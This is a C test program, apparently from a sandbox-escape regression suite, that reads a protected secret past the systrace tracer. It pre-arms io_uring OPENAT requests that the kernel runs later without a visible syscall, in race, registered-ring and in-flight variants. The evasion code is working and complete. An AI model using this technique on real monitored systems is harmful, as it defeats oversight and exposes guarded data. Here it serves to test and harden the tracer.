/* kio_uring_pending: an io_uring made before systrace attached holds work the kernel runs
 * later for the process, with no system call of its own (review 5, findings 2 and 9; class 5).
 * The ring has no poller (no SQPOLL, so no kernel thread for procfs.kernel_worker to see):
 * two linked requests are submitted before the attach -- an IORING_OP_READ of a pipe, which
 * waits, armed on the pipe's poll, and an IORING_OP_OPENAT of TARGET (the secret) linked to
 * it.  After the attach the program only writes a byte into its own pipe (a plain write, no
 * path): the READ completes, and the kernel runs the OPENAT for it, installing a descriptor
 * of the secret in its table; the completion is read from the ring's memory (no call).
 * Under `systrace --attach` this read the secret; now systrace refuses to attach a process
 * holding an io_uring descriptor or mapping a ring.
 *
 *   kio_uring_pending TARGET               ($ESC_WAIT_TRACER: arm, wait for a tracer, fire)
 *   kio_uring_pending TARGET race          a thread arms a new ring and drops the last, in a
 *                                          loop, while systrace attaches (finding 9: a ring
 *                                          made between its thread's check and its seize);
 *                                          once traced, the ring it holds is fired (a
 *                                          line on stdin: the attach is over, untraced)
 *   kio_uring_pending TARGET race-native   the same, fired untraced after a while (control)
 *   kio_uring_pending TARGET registered    ($ESC_WAIT_TRACER) the ring kept only as a
 *                                          registered ring descriptor (IORING_REGISTER_RING_FDS):
 *                                          its descriptor closed, its rings unmapped -- no
 *                                          /proc file shows it; the OPENAT's descriptor is
 *                                          looked for in the table (gap #27)
 *   kio_uring_pending TARGET inflight      ($ESC_WAIT_TRACER) the ring kept only in flight:
 *                                          sent to itself over a unix socket (SCM_RIGHTS),
 *                                          never received, its descriptor closed, its rings
 *                                          unmapped (SKIPPED where the kernel refuses to
 *                                          send an io_uring's descriptor: 6.7 on, scm_fp_copy)
 *
 * Under `systrace --attach` the last two read the secret; now systrace asks every thread,
 * by a call it makes the thread run, whether it has an io_uring context at all
 * (io_uring_enter(0, 0, 0, IORING_ENTER_REGISTERED_RING, NULL, 0) answers EINVAL without
 * one) and refuses the attach when one has.
 */
#include "attack.h"

#include <linux/io_uring.h>
#include <poll.h>
#include <sys/mman.h>
#include <sys/socket.h>

struct pending {
    int ring, pipe[2];
    char *sq;
    size_t sq_size, sqes_size;
    struct io_uring_sqe *sqes;
    struct io_uring_params p;
};

static char target_byte[1];

/* A ring with a READ of a new pipe pending and an OPENAT of TARGET linked to it: 0, or
 * -errno (the ring and the pipe are closed then). */
static int arm(struct pending *w, const char *target) {
    memset(w, 0, sizeof *w);
    w->ring = syscall(SYS_io_uring_setup, 8, &w->p);
    if (w->ring < 0)
        return -errno;
    if (!(w->p.features & IORING_FEAT_SINGLE_MMAP)) {
        close(w->ring);
        return -ENOSYS;
    }
    size_t cq_size = w->p.cq_off.cqes + w->p.cq_entries * sizeof(struct io_uring_cqe);
    w->sq_size = w->p.sq_off.array + w->p.sq_entries * sizeof(unsigned);
    if (cq_size > w->sq_size)
        w->sq_size = cq_size;
    w->sqes_size = w->p.sq_entries * sizeof(struct io_uring_sqe);
    w->sq = mmap(NULL, w->sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, w->ring,
                 IORING_OFF_SQ_RING);
    w->sqes = mmap(NULL, w->sqes_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                   w->ring, IORING_OFF_SQES);
    int err = 0;
    if (w->sq == MAP_FAILED || w->sqes == MAP_FAILED || pipe(w->pipe) < 0)
        err = -errno;
    else {
        struct io_uring_sqe *s = w->sqes;
        memset(s, 0, 2 * sizeof *s);
        s[0].opcode = IORING_OP_READ;  /* waits for the pipe: armed on its poll */
        s[0].fd = w->pipe[0];
        s[0].addr = (unsigned long)target_byte;
        s[0].len = 1;
        s[0].flags = IOSQE_IO_LINK;
        s[0].user_data = 1;
        s[1].opcode = IORING_OP_OPENAT;  /* ... then this, for the process */
        s[1].fd = AT_FDCWD;
        s[1].addr = (unsigned long)target;
        s[1].open_flags = O_RDONLY;
        s[1].user_data = 2;
        unsigned *tail = (unsigned *)(w->sq + w->p.sq_off.tail), t = *tail;
        unsigned *array = (unsigned *)(w->sq + w->p.sq_off.array);
        array[t & (w->p.sq_entries - 1)] = 0;
        array[(t + 1) & (w->p.sq_entries - 1)] = 1;
        __atomic_store_n(tail, t + 2, __ATOMIC_RELEASE);
        if (syscall(SYS_io_uring_enter, w->ring, 2, 0, 0, NULL, 0) != 2)
            err = -errno;
    }
    if (err) {
        close(w->ring);
        w->ring = -1;
    }
    return err;
}

static void disarm(struct pending *w) {
    if (w->ring < 0)
        return;
    munmap(w->sq, w->sq_size);
    munmap(w->sqes, w->sqes_size);
    close(w->ring);
    close(w->pipe[0]);
    close(w->pipe[1]);
    w->ring = -1;
}

/* The trigger -- a byte written to its own pipe -- and the OPENAT's completion, read from the
 * ring's memory: the verdict. */
__attribute__((noreturn)) static void fire(struct pending *w) {
    if (write(w->pipe[1], "x", 1) != 1)
        blocked("write(pipe): %s", ename(errno));
    unsigned *cq_head = (unsigned *)(w->sq + w->p.cq_off.head);
    unsigned *cq_tail = (unsigned *)(w->sq + w->p.cq_off.tail);
    unsigned cq_mask = *(unsigned *)(w->sq + w->p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(w->sq + w->p.cq_off.cqes);
    double until = now_s() + 5;
    while (now_s() < until) {
        unsigned head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
        if (head == __atomic_load_n(cq_tail, __ATOMIC_ACQUIRE))
            continue;
        struct io_uring_cqe cqe = cqes[head & cq_mask];
        __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
        if (cqe.user_data != 2)
            continue;
        if (cqe.res < 0)
            blocked("IORING_OP_OPENAT: %s", ename(-cqe.res));
        char buf[512] = "";
        ssize_t n = read(cqe.res, buf, sizeof buf - 1);
        if (is_secret_fd(cqe.res) && n > 0 && strstr(buf, SECRET_MAGIC))
            escaped("the ring's pending OPENAT opened the secret (%zd bytes read)", n);
        blocked("the ring opened something else (%s)", fd_name(cqe.res));
    }
    blocked("no completion of the OPENAT came");
}

/* The ring's descriptor closed and its rings unmapped (what else holds it: the caller's
 * mode), wait for a tracer, then the trigger; the verdict: a descriptor of the secret in the
 * table, which only the OPENAT can have put there. */
__attribute__((noreturn)) static void fire_hidden(struct pending *w) {
    munmap(w->sq, w->sq_size);
    munmap(w->sqes, w->sqes_size);
    close(w->ring);
    wait_for_tracer();
    note("traced by %d", tracer_pid());
    if (write(w->pipe[1], "x", 1) != 1)
        blocked("write(pipe): %s", ename(errno));
    double until = now_s() + 3;
    while (now_s() < until) {
        for (int fd = 3; fd < 64; fd++) {
            char buf[512] = "";
            if (is_secret_fd(fd) && pread(fd, buf, sizeof buf - 1, 0) > 0 &&
                strstr(buf, SECRET_MAGIC))
                escaped("the hidden ring's OPENAT opened the secret (fd %d)", fd);
        }
        usleep(10000);
    }
    blocked("no descriptor of the secret came");
}

static const char *target;
static struct pending held = {.ring = -1};
static volatile int stop_arming;
static volatile long armed;
static volatile int kept;

/* Arm a new ring, hold it a moment, drop it, wait a moment: with or without a ring when the
 * tracer looks.  Once traced (or told to stop), what it holds is kept, to be fired. */
static void *arming(void *unused) {
    (void)unused;
    for (;;) {
        if (arm(&held, target) == 0)
            armed++;
        usleep(1000);
        if (stop_arming || tracer_pid() > 0)
            break;
        disarm(&held);
        usleep(1000);
    }
    kept = 1;
    return idle_loop(NULL);  /* (alive: a task's requests are cancelled when it exits) */
}

int main(int argc, char **argv) {
    if (argc < 2)
        usage("kio_uring_pending TARGET [race|race-native|registered|inflight]");
    target = argv[1];
    if (argc < 3) {
        int rc = arm(&held, target);
        if (rc < 0)
            skipped("io_uring: %s", ename(-rc));
        wait_for_tracer();
        note("traced by %d", tracer_pid());
        fire(&held);
    }
    if (strcmp(argv[2], "registered") == 0) {
        int rc = arm(&held, target);
        if (rc < 0)
            skipped("io_uring: %s", ename(-rc));
        struct io_uring_rsrc_update slot = {.offset = -1U, .data = (unsigned long)held.ring};
        if (syscall(SYS_io_uring_register, held.ring, IORING_REGISTER_RING_FDS, &slot, 1) != 1)
            skipped("IORING_REGISTER_RING_FDS: %s", ename(errno));
        fire_hidden(&held);
    }
    if (strcmp(argv[2], "inflight") == 0) {
        int rc = arm(&held, target), sv[2];
        if (rc < 0)
            skipped("io_uring: %s", ename(-rc));
        if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) < 0)
            skipped("socketpair: %s", ename(errno));
        union {
            char buf[CMSG_SPACE(sizeof(int))];
            struct cmsghdr align;
        } control;
        struct iovec iov = {.iov_base = "r", .iov_len = 1};
        struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control.buf,
                             .msg_controllen = sizeof control.buf};
        struct cmsghdr *cmsg = CMSG_FIRSTHDR(&msg);
        cmsg->cmsg_level = SOL_SOCKET;
        cmsg->cmsg_type = SCM_RIGHTS;
        cmsg->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(cmsg), &held.ring, sizeof(int));
        if (sendmsg(sv[1], &msg, 0) != 1)  /* queued on sv[0], never received */
            skipped("sendmsg(SCM_RIGHTS of an io_uring): %s", ename(errno));
        close(sv[1]);
        fire_hidden(&held);
    }
    int native = strcmp(argv[2], "race-native") == 0;
    struct pending probe;
    int rc = arm(&probe, target);
    if (rc < 0)
        skipped("io_uring: %s", ename(-rc));
    disarm(&probe);
    pthread_t thread;
    if (pthread_create(&thread, NULL, arming, NULL) != 0)
        skipped("pthread_create");
    printf("ready %d\n", getpid());
    fflush(stdout);
    /* native: a moment; else until traced, or told on stdin the attach is over (refused) */
    double until = now_s() + (native ? 0.2 : 30);
    struct pollfd told = {.fd = 0, .events = POLLIN};
    while (now_s() < until && (native || (tracer_pid() <= 0 && poll(&told, 1, 1) == 0)))
        ;
    stop_arming = 1;
    while (!kept)
        usleep(1000);
    note("traced by %d after %ld rings", tracer_pid(), armed);
    if (!native && tracer_pid() <= 0)
        blocked("never traced (the attach was refused)");
    if (held.ring < 0)
        blocked("no ring made before the attach is held");
    fire(&held);
}
